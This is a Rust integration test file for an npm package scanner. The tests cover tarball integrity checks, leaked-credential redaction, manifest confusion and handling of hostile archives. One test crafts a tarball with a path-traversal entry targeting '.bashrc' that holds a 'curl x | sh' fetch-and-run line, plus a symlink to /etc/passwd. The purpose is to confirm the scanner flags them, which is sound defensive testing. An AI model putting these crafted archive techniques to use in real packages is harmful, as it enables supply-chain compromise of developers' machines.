//! Tarball download and content analysis in the scan: integrity first, then the in-memory read.

use crate::support::*;
use serde_json::Value;

fn scan_json(reg: &TestRegistry, args: &[&str]) -> Value {
    let mut all = args.to_vec();
    all.extend(["--format", "json"]);
    let out = run(scan(reg, &all));
    assert_ne!(out.code, 3, "{}", out.stderr);
    json(&out)
}

#[test]
fn real_tarball_is_verified_and_clean() {
    let reg = fixture_registry();
    let r = scan_json(
        &reg,
        &["@modelcontextprotocol/server-filesystem", "abbrev@4.0.0"],
    );
    for p in r["packages"].as_array().unwrap() {
        let f = &p["facts"];
        assert_eq!(f["tarball"]["integrity"], "verified", "{}", p["name"]);
        assert_eq!(f["content"]["complete"], true);
        assert_eq!(f["content"]["manifest_compared"], true);
        assert_eq!(
            f["content"]["manifest_confusion"],
            serde_json::json!([]),
            "{}",
            f["content"]
        );
        assert_eq!(f["content"]["secret_count"], 0);
        assert_eq!(f["lockfile"]["has_shrinkwrap"], false);
        let content_findings: Vec<String> = rule_ids(&p["findings"])
            .into_iter()
            .filter(|id| !id.starts_with("provenance") && id != "single-maintainer")
            .collect();
        assert!(
            content_findings.is_empty(),
            "{}: {content_findings:?}",
            p["name"]
        );
    }
    // abbrev's tarball URL names registry.npmjs.org; npm's replace-registry-host sends the
    // request to the configured registry instead.
    assert_eq!(reg.hits("/abbrev/-/abbrev-4.0.0.tgz"), 1);
}

#[test]
fn everything_the_content_checks_look_for() {
    let reg = fixture_registry();
    let r = scan_json(&reg, &["risky-mcp-server"]);
    let p = &r["packages"][0];
    let found = rule_ids(&p["findings"]);
    for want in [
        "leaked-credentials",
        "install-script-fetches-code",
        "native-binary",
        "bin-shadows-command",
        "never-packed-files",
    ] {
        assert!(
            found.contains(&want.to_string()),
            "missing {want}: {found:?}"
        );
    }
    // Evidence is redacted: the file and the first characters, never the token.
    let text = serde_json::to_string(&r).unwrap();
    assert!(
        !text.contains("Q7fT2kLm9XvB4nRz8WpC3sJd6HyA1uEoGq5t"),
        "token in output"
    );
    assert!(p["facts"]["content"]["secrets"][0]
        .as_str()
        .unwrap()
        .contains(".npmrc"));
}

#[test]
fn registry_metadata_hiding_an_install_script_is_manifest_confusion() {
    let reg = fixture_registry();
    let r = scan_json(&reg, &["takeover-demo@1.2.1"]);
    let p = &r["packages"][0];
    let found = rule_ids(&p["findings"]);
    assert!(
        found.contains(&"manifest-confusion".to_string()),
        "{found:?}"
    );
    assert!(
        found.contains(&"install-script-fetches-code".to_string()),
        "{found:?}"
    );
    // The registry document shows no install script, so the metadata rule alone would pass.
    assert!(!found.contains(&"install-scripts".to_string()));
    let mc = p["facts"]["content"]["manifest_confusion"].to_string();
    assert!(mc.contains("scripts.postinstall"), "{mc}");
}

#[test]
fn integrity_mismatch_is_critical_and_the_content_is_not_read() {
    let reg = fixture_registry();
    // Serve other bytes than the ones dist.integrity names.
    let other = std::fs::read(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/fixtures/registry/tarballs/good-mcp-server-1.1.0.tgz"
    ))
    .unwrap();
    reg.add_file(
        "/good-mcp-server/-/good-mcp-server-1.2.0.tgz",
        other,
        "application/octet-stream",
    );
    let r = scan_json(&reg, &["good-mcp-server", "--fail-under", "70"]);
    let p = &r["packages"][0];
    assert_eq!(p["facts"]["tarball"]["integrity"], "mismatch");
    assert!(p["facts"]["content"]["$unknown"]
        .as_str()
        .unwrap()
        .contains("does not match dist.integrity"));
    assert!(rule_ids(&p["findings"]).contains(&"tarball-integrity-mismatch".to_string()));
    assert!(p["score"].as_u64().unwrap() <= 33);
    assert_eq!(p["status"], "failed");
}

#[test]
fn broken_tarballs_are_findings_not_crashes() {
    let reg = fixture_registry();
    let good = std::fs::read(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/fixtures/registry/tarballs/good-mcp-server-1.2.0.tgz"
    ))
    .unwrap();
    // A download cut off mid-body: the tarball is unknown, and the package is still checked.
    reg.fault(
        "/good-mcp-server/-/good-mcp-server-1.2.0.tgz",
        Fault::Truncate {
            bytes: good.len() / 2,
        },
    );
    let out = run(scan(
        &reg,
        &["good-mcp-server", "--format", "json", "--retries", "0"],
    ));
    assert_eq!(
        out.code, 0,
        "a tarball problem is about content, not about checking: {}",
        out.stderr
    );
    let r = json(&out);
    let reason = r["packages"][0]["facts"]["content"]["$unknown"]
        .as_str()
        .unwrap();
    assert!(
        reason.contains("could not download the tarball"),
        "{reason}"
    );
    assert!(rule_ids(&r["packages"][0]["inconclusive"]).contains(&"leaked-credentials".to_string()));
}

#[test]
fn no_tarball_makes_content_rules_inconclusive_not_passed() {
    let reg = fixture_registry();
    let r = scan_json(&reg, &["risky-mcp-server", "--no-tarball"]);
    let p = &r["packages"][0];
    assert_eq!(
        p["facts"]["content"]["$unknown"],
        "--no-tarball: the tarball was not downloaded"
    );
    let unknown = rule_ids(&p["inconclusive"]);
    let passed: Vec<&str> = p["passed"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    for rule in [
        "leaked-credentials",
        "manifest-confusion",
        "native-binary",
        "tarball-integrity-mismatch",
    ] {
        assert!(
            unknown.contains(&rule.to_string()),
            "{rule} not inconclusive: {unknown:?}"
        );
        assert!(!passed.contains(&rule), "{rule} passed");
    }
    assert_eq!(
        reg.hits("/risky-mcp-server/-/risky-mcp-server-0.0.2.tgz"),
        0
    );
}

/// A tarball as a malicious publisher would craft it, served with a matching integrity so it
/// gets past the download checks and reaches the archive reader.
pub(crate) fn publish_crafted(reg: &TestRegistry, name: &str, tgz: Vec<u8>) {
    use base64::Engine;
    use sha2::Digest;
    let integrity = format!(
        "sha512-{}",
        base64::engine::general_purpose::STANDARD.encode(sha2::Sha512::digest(&tgz))
    );
    reg.add_file(
        &format!("/{name}/-/{name}-1.0.0.tgz"),
        tgz,
        "application/octet-stream",
    );
    reg.add_packument(
        name,
        serde_json::json!({
            "name": name,
            "dist-tags": {"latest": "1.0.0"},
            "time": {"1.0.0": "2026-01-01T00:00:00.000Z"},
            "versions": {"1.0.0": {
                "name": name, "version": "1.0.0", "license": "MIT",
                "dist": {"integrity": integrity,
                         "tarball": format!("{{{{registry}}}}/{name}/-/{name}-1.0.0.tgz")}
            }}
        }),
    );
}

fn tgz(entries: &[(&str, &[u8])], links: &[(&str, &str)]) -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    for (path, data) in entries {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        // set_path refuses `..`; write the raw name the way a hostile packer would.
        let raw = path.as_bytes();
        h.as_old_mut().name[..raw.len()].copy_from_slice(raw);
        h.set_cksum();
        builder.append(&h, *data).unwrap();
    }
    for (path, target) in links {
        let mut h = tar::Header::new_gnu();
        h.set_entry_type(tar::EntryType::Symlink);
        h.set_size(0);
        builder.append_link(&mut h, path, target).unwrap();
    }
    let tar = builder.into_inner().unwrap();
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut gz, &tar).unwrap();
    gz.finish().unwrap()
}

#[test]
fn hostile_archives_are_reported_on_the_package_and_nothing_is_written() {
    let reg = fixture_registry();
    let pkg = br#"{"name":"evil-paths","version":"1.0.0","license":"MIT"}"#;
    publish_crafted(
        &reg,
        "evil-paths",
        tgz(
            &[
                ("package/package.json", pkg),
                ("package/../../.bashrc", b"curl x | sh"),
            ],
            &[("package/link", "/etc/passwd")],
        ),
    );
    let good = tgz(
        &[(
            "package/package.json",
            br#"{"name":"cut","version":"1.0.0"}"#,
        )],
        &[],
    );
    publish_crafted(&reg, "cut-gzip", good[..good.len() - 12].to_vec());
    publish_crafted(
        &reg,
        "not-json",
        tgz(&[("package/package.json", b"{ nope")], &[]),
    );
    let before: Vec<_> = std::fs::read_dir(std::env::temp_dir())
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .collect();
    let r = scan_json(&reg, &["evil-paths", "cut-gzip", "not-json"]);
    let after: Vec<_> = std::fs::read_dir(std::env::temp_dir())
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .collect();
    assert!(after
        .iter()
        .all(|p| before.contains(p) || !p.to_string_lossy().contains("bashrc")));
    let evil = &r["packages"][0];
    assert!(
        rule_ids(&evil["findings"]).contains(&"tarball-path-problems".to_string()),
        "{}",
        evil["findings"]
    );
    let problems = evil["facts"]["content"]["path_problems"].to_string();
    assert!(
        problems.contains("..") && problems.contains("/etc/passwd"),
        "{problems}"
    );
    let cut = &r["packages"][1];
    assert_eq!(cut["facts"]["tarball"]["integrity"], "verified");
    assert!(
        rule_ids(&cut["findings"]).contains(&"tarball-unreadable".to_string()),
        "{}",
        cut["facts"]["content"]
    );
    let not_json = &r["packages"][2];
    assert!(
        not_json["facts"]["content"]["errors"]
            .to_string()
            .contains("package.json"),
        "{}",
        not_json["facts"]["content"]
    );
    assert!(rule_ids(&not_json["findings"]).contains(&"tarball-unreadable".to_string()));
}

/// Issue K3 through a scan: a GNU long-name record over the 8 KiB cap is a path problem on the
/// package, and the content is unknown (npm would apply a name the analysis never read).
#[test]
fn an_oversized_long_name_record_is_a_path_problem_and_the_content_is_unknown() {
    let reg = fixture_registry();
    let mut h = tar::Header::new_gnu();
    h.as_old_mut().name[..13].copy_from_slice(b"././@LongLink");
    h.set_entry_type(tar::EntryType::GNULongName);
    h.set_size(64 * 1024);
    h.set_cksum();
    let mut builder = tar::Builder::new(Vec::new());
    builder.append(&h, &vec![b'n'; 64 * 1024][..]).unwrap();
    let pkg = br#"{"name":"long-name","version":"1.0.0","license":"MIT"}"#;
    for (path, data) in [("package/package.json", &pkg[..]), ("package/a.js", b"1")] {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        builder.append_data(&mut h, path, data).unwrap();
    }
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut gz, &builder.into_inner().unwrap()).unwrap();
    publish_crafted(&reg, "long-name", gz.finish().unwrap());

    let r = scan_json(&reg, &["long-name"]);
    let p = &r["packages"][0];
    let ids = rule_ids(&p["findings"]);
    assert!(
        ids.contains(&"tarball-path-problems".to_string()),
        "{}",
        p["findings"]
    );
    let content = &p["facts"]["content"];
    assert_eq!(content["complete"], false, "{content}");
    let problems = content["path_problems"].to_string();
    assert!(
        problems.contains("oversized-header package/package.json") && problems.contains("65536"),
        "{problems}"
    );
    assert!(ids.contains(&"tarball-unreadable".to_string()), "{ids:?}");
    assert!(r.to_string().len() < 200_000);
}
